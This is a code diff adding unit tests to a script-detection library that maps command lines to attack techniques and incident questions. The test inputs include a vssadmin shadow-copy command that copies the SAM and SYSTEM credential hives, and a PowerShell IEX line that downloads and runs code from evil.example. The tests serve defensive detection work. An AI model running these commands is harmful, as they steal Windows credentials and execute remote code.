@@ -1,5 +1,6 @@
 using Afterpatch.Analysis.Detectors.Scripts;
 using Afterpatch.Core;
+using Afterpatch.Scripts.PowerShell;
 using Xunit;
 
 namespace Afterpatch.Analysis.Tests.Scripts;
@@ -15,6 +16,23 @@ public sealed class ScriptDetectorTests
         Assert.Equal(3, evidence.At.Line);
         Assert.StartsWith("IEX", evidence.Excerpt, StringComparison.Ordinal);
     }
+
+    [Theory]
+    [InlineData("cmd /c vssadmin create shadow /for=C: & copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\Windows\\Temp\\s & copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SYSTEM C:\\Windows\\Temp\\y", Question.Taken)]
+    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')", Question.Exploited)]
+    public void A_script_answers_by_the_techniques_of_its_reasons(string line, Question question) =>
+        Assert.Contains(question, Assert.Single(Run(line)).Answers);
+
+    [Theory]
+    [InlineData("passwords-of-servers-read", "T1552.001", Question.Taken)]
+    [InlineData("records-dumped-and-sent", "T1213.006", Question.Taken)]
+    [InlineData("exit-of-program-watched", "T1546.012", Question.StillInside)]
+    [InlineData("remote-run-through-object", "T1021.003", Question.Spread)]
+    [InlineData("cleartext-passwords-enabled", "T1003.001", Question.Exploited)]
+    [InlineData("amsi-bypass", "T1562.001", Question.Exploited)]
+    [InlineData("anything-new", "T10031", Question.Exploited)]
+    public void Every_technique_has_its_question(string reason, string technique, Question question) =>
+        Assert.Equal([question], ScriptQuestions.Of(new ScriptJudgement { Text = "", Reasons = [new(reason, "", true) { Techniques = [technique] }] }));
 
     [Fact]
     public void An_administrators_history_is_quiet() => Assert.Empty(Run("Get-Mailbox\nGet-Date\nRestart-Service W3SVC"));
